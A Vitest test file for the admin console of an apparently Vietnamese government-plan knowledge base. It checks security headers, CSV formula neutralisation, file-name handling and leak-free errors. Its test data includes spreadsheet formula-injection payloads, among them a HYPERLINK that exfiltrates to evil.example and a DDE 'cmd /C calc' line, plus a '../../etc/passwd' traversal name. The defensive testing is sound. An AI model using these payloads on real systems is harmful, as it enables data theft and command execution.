import { copyFileSync, existsSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { type Harness, startHarness } from "../channels/harness.js";
import { SAMPLE_DIR } from "../helpers/knowledge.js";

/** Issue 19, points 5 and 17: what the console's responses carry, and plan names as officials write them. */

const PASSWORD = "mat-khau-thu-nghiem";
const PLAN = (place: string, figure: string) =>
  `Số: 15/KH-UBND\n\n${place}, ngày 03 tháng 01 năm 2024\n\nI. CHỈ TIÊU\n\n- Tỷ lệ hộ dùng nước sạch đạt ${figure}.\n`;

let harness: Harness;
let knowledgeDir: string;
afterEach(() => harness?.stop());

async function start(extraFiles: Record<string, string> = {}) {
  knowledgeDir = mkdtempSync(join(tmpdir(), "kb-hardening-"));
  for (const file of ["lai-hung-2024.txt", "phuong-1-tay-ninh-2024.txt"]) copyFileSync(join(SAMPLE_DIR, file), join(knowledgeDir, file));
  for (const [name, text] of Object.entries(extraFiles)) writeFileSync(join(knowledgeDir, name), text);
  harness = await startHarness({ knowledgeDir, config: { adminPassword: PASSWORD } });
  const response = await fetch(`${harness.url}/api/admin/login`, {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ password: PASSWORD }),
  });
  expect(response.status).toBe(200);
  return { cookie: response.headers.get("set-cookie")!.split(";")[0]!, csrf: ((await response.json()) as { csrfToken: string }).csrfToken };
}

type Session = Awaited<ReturnType<typeof start>>;

function call(path: string, session: Session | undefined, init: RequestInit & { json?: unknown } = {}) {
  const headers: Record<string, string> = {};
  if (session) Object.assign(headers, { cookie: session.cookie, "x-csrf-token": session.csrf });
  if (init.json !== undefined) headers["content-type"] = "application/json";
  return fetch(`${harness.url}${path}`, { ...init, headers, body: init.json !== undefined ? JSON.stringify(init.json) : init.body });
}

function upload(session: Session, name: string, content: string) {
  const form = new FormData();
  form.append("file", new Blob([content]), name);
  return call("/api/admin/plans", session, { method: "POST", body: form });
}

const planPath = (name: string) => `/api/admin/plans/${encodeURIComponent(name)}`;
const metaPath = (name: string) => `/api/admin/documents/${encodeURIComponent(name)}/meta`;
const servedFiles = async (session: Session) =>
  ((await (await call("/api/admin/documents", session)).json()) as { documents: { file: string }[] }).documents.map((d) => d.file).sort();

/** Nothing that names a folder of the server: the temporary folders of this test, or any absolute path. */
function expectNoServerPath(body: string) {
  expect(body).not.toContain(knowledgeDir);
  expect(body).not.toContain(harness.dataDir);
  expect(body).not.toContain(tmpdir());
  expect(body).not.toMatch(/(^|[\s'"(])\/(?:[\w.-]+\/)+/);
}

/** A CSV parser good enough for the export: quoted cells, doubled quotes. */
function csvRows(text: string): string[][] {
  const rows: string[][] = [];
  for (const line of text.trimEnd().split("\n")) {
    const cells: string[] = [];
    for (const match of line.matchAll(/("(?:[^"]|"")*"|[^,]*)(,|$)/g)) {
      const cell = match[1]!;
      cells.push(cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell);
      if (match[2] === "") break;
    }
    rows.push(cells);
  }
  return rows;
}

describe("console responses", () => {
  it("carry nosniff, no-store and no-referrer: the page, the API, refusals and the CSV export", async () => {
    const session = await start();
    const responses = [
      await call("/admin", undefined),
      await call("/admin/admin.js", undefined),
      await call("/api/admin/session", undefined),
      await call("/api/admin/documents", undefined),
      await call("/api/admin/documents", session),
      await call("/api/admin/questions", session),
      await call("/api/admin/documents/lai-hung-2024.txt/targets.csv", session),
    ];
    expect(responses.map((r) => r.status)).toEqual([200, 200, 200, 401, 200, 200, 200]);
    for (const response of responses) {
      expect(response.headers.get("x-content-type-options"), response.url).toBe("nosniff");
      expect(response.headers.get("cache-control"), response.url).toBe("no-store");
      expect(response.headers.get("referrer-policy"), response.url).toBe("no-referrer");
    }
  });

  it("export cells that a spreadsheet would run as a formula with an apostrophe in front", async () => {
    const hostile = [
      "Số: 15/KH-UBND",
      "",
      "Xã Định Hòa, ngày 03 tháng 01 năm 2024",
      "",
      "I. CHỈ TIÊU",
      "",
      '- =HYPERLINK("http://evil.example/?x="&A1) tỷ lệ hộ dùng nước sạch đạt 87,5%.',
      "- @SUM(1+1) số hộ nghèo giảm 25 hộ.",
      "- +cmd|' /C calc'!A0 tỷ lệ trẻ em tiêm chủng đạt 95%.",
      "- -2+3 tỷ lệ che phủ rừng đạt 40%.",
      "",
    ].join("\n");
    const session = await start({ "xa-dinh-hoa-2024.txt": hostile });
    const csv = await call("/api/admin/documents/xa-dinh-hoa-2024.txt/targets.csv", session);
    expect(csv.status).toBe(200);
    const rows = csvRows((await csv.text()).replace(/^\uFEFF/, ""));
    const indicators = rows.slice(1).map((row) => row[0]);
    expect(indicators).toEqual(
      expect.arrayContaining([
        `'=HYPERLINK("http://evil.example/?x="&A1) tỷ lệ hộ dùng nước sạch đạt`,
        "'@SUM(1+1) số hộ nghèo giảm",
        "'+cmd|' /C calc'!A0 tỷ lệ trẻ em tiêm chủng đạt",
        "'-2+3 tỷ lệ che phủ rừng đạt",
      ]),
    );
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe("plan file names as officials and the file system have them", () => {
  it("corrects and deletes hand-copied plans named with spaces or capitals, under their own names", async () => {
    const session = await start({ "Xa Lai Hung 2024.txt": PLAN("Xã Định Hòa", "81%"), "UPPER.TXT": PLAN("Xã Tân Hòa", "82%") });
    expect(await servedFiles(session)).toEqual(["UPPER.TXT", "Xa Lai Hung 2024.txt", "lai-hung-2024.txt", "phuong-1-tay-ninh-2024.txt"]);

    const spaced = await call(metaPath("Xa Lai Hung 2024.txt"), session, { method: "PUT", json: { signer: "Nguyễn Văn A" } });
    expect(spaced.status).toBe(200);
    const upper = await call(metaPath("UPPER.TXT"), session, { method: "PUT", json: { signer: "Trần Thị B" } });
    expect(upper.status).toBe(200);
    // The sidecars the loader reads for these plans, and no other.
    expect(readFileSync(join(knowledgeDir, "Xa Lai Hung 2024.meta.yaml"), "utf8")).toContain("signer: Nguyễn Văn A");
    expect(readFileSync(join(knowledgeDir, "UPPER.meta.yaml"), "utf8")).toContain("signer: Trần Thị B");
    expect(readdirSync(knowledgeDir).filter((name) => name.endsWith(".meta.yaml")).sort()).toEqual(["UPPER.meta.yaml", "Xa Lai Hung 2024.meta.yaml"]);

    const removedSpaced = await call(planPath("Xa Lai Hung 2024.txt"), session, { method: "DELETE" });
    expect(removedSpaced.status).toBe(200);
    expect(await removedSpaced.json()).toMatchObject({ removed: "Xa Lai Hung 2024.txt" });
    // Asked in other capitals, as an official might type it: the one plan of that name.
    const removedUpper = await call(planPath("upper.txt"), session, { method: "DELETE" });
    expect(removedUpper.status).toBe(200);
    expect(await removedUpper.json()).toMatchObject({ removed: "UPPER.TXT" });
    expect(readdirSync(knowledgeDir).sort()).toEqual(["lai-hung-2024.txt", "phuong-1-tay-ninh-2024.txt"]);
    expect(readdirSync(join(harness.dataDir, "plan-history")).map((name) => name.replace(/^[\dT-]+Z-/, "")).sort()).toEqual([
      "UPPER.TXT",
      "UPPER.TXT.meta.yaml",
      "Xa Lai Hung 2024.txt",
      "Xa Lai Hung 2024.txt.meta.yaml",
    ]);
    expect(await servedFiles(session)).toEqual(["lai-hung-2024.txt", "phuong-1-tay-ninh-2024.txt"]);
  });

  it("treats lai-hung-2024.txt, LAI-HUNG-2024.txt and lai-hung-2024.md as one plan: an upload replaces it and keeps its name and corrections", async () => {
    const session = await start();
    await call(metaPath("lai-hung-2024.txt"), session, { method: "PUT", json: { signer: "Bành Quốc Trung" } });

    const upper = await upload(session, "LAI-HUNG-2024.txt", PLAN("Xã Lai Hưng", "70%"));
    expect(upper.status).toBe(200);
    expect(await upper.json()).toMatchObject({ file: "lai-hung-2024.txt", replaced: true, replacedFiles: ["lai-hung-2024.txt"], documents: 2 });

    const markdown = await upload(session, "Lai Hung 2024.md", PLAN("Xã Lai Hưng", "71%"));
    expect(markdown.status).toBe(200);
    expect(await markdown.json()).toMatchObject({ file: "lai-hung-2024.md", replaced: true, replacedFiles: ["lai-hung-2024.txt"], documents: 2 });
    expect(readdirSync(knowledgeDir).sort()).toEqual(["lai-hung-2024.md", "lai-hung-2024.meta.yaml", "phuong-1-tay-ninh-2024.txt"]);
    expect(await servedFiles(session)).toEqual(["lai-hung-2024.md", "phuong-1-tay-ninh-2024.txt"]);
    const documents = (await (await call("/api/admin/documents", session)).json()) as { documents: { file: string; meta: { signer?: string } }[] };
    expect(documents.documents.find((d) => d.file === "lai-hung-2024.md")!.meta.signer).toBe("Bành Quốc Trung");
    // Both earlier versions are kept.
    expect(readdirSync(join(harness.dataDir, "plan-history")).filter((name) => name.endsWith("lai-hung-2024.txt"))).toHaveLength(2);
  });

  it("answers 400 with a clear reason to a very long name, and never names a server folder in an error", async () => {
    const session = await start();
    const longName = `${"Kế hoạch phát triển kinh tế xã hội xã Lai Hưng ".repeat(8)}2024.txt`;
    const response = await upload(session, longName, PLAN("Xã Lai Hưng", "70%"));
    expect(response.status).toBe(400);
    const body = await response.text();
    expect(JSON.parse(body).error).toMatch(/^tên tệp quá dài \(\d+ byte\); .* \(the file name is too long \(\d+ bytes\)/);
    expectNoServerPath(body);
    expect(readdirSync(knowledgeDir).sort()).toEqual(["lai-hung-2024.txt", "phuong-1-tay-ninh-2024.txt"]);

    for (const name of ["../../etc/passwd", "..", "a/b.txt", "không-có.txt"]) {
      const refused = await call(planPath(name), session, { method: "DELETE" });
      expect([400, 404], name).toContain(refused.status);
      expectNoServerPath(await refused.text());
    }
  });

  it("answers a failure inside the server with a message for officials, the details only in the log", async () => {
    const session = await start();
    // Where the history of replaced plans should go there is a file: copying the old version fails.
    writeFileSync(join(harness.dataDir, "plan-history"), "not a folder");
    const response = await upload(session, "lai-hung-2024.txt", PLAN("Xã Lai Hưng", "70%"));
    expect(response.status).toBe(500);
    const body = await response.text();
    expect(JSON.parse(body)).toMatchObject({
      vi: "Máy chủ gặp lỗi khi xử lý yêu cầu này; chi tiết đã được ghi vào nhật ký máy chủ.",
      en: "The server failed to handle this request; the details are in the server log.",
    });
    expectNoServerPath(body);
    expect(harness.logs.join("")).toMatch(/"msg":"request failed"/);
    expect(existsSync(join(knowledgeDir, "lai-hung-2024.txt"))).toBe(true);
  });
});
